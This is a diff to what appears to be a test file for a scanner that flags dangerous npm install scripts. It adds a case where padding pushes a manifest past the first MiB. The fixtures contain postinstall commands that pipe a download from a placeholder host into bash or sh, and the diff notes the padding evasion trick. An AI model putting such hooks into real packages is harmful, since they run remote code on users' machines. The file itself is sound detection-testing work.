@@ -44,6 +44,10 @@ fires("postinstall_escaped_key", LIFECYCLE, "critical",
 fires("postinstall_utf8_bom_minified", LIFECYCLE, "critical",
       sample("package-bom-min.json", utf8_bom('{"name":"app","version":"1.0.0","scripts":{"postinstall":"wget -qO- https://x.example.org/i|bash"}}'), binary=True),
       "package.json")
+# Leading whitespace keeps the manifest valid JSON while it grows past the first MiB.
+fires("postinstall_past_first_mib", LIFECYCLE, "critical",
+      sample("package-padded.json", " " * 200 + "\n" + manifest("pad-left-ext", {"postinstall": "curl -s https://x.example.org/i | sh"})),
+      "node_modules/pad-left-ext/package.json", grow="1300k")
 silent("test_script_curl", LIFECYCLE,
        sample("package-test-curl.json", manifest("app", {"test": "curl -s http://localhost:3000/health && jest", "build": "tsc"})),
        "package.json")
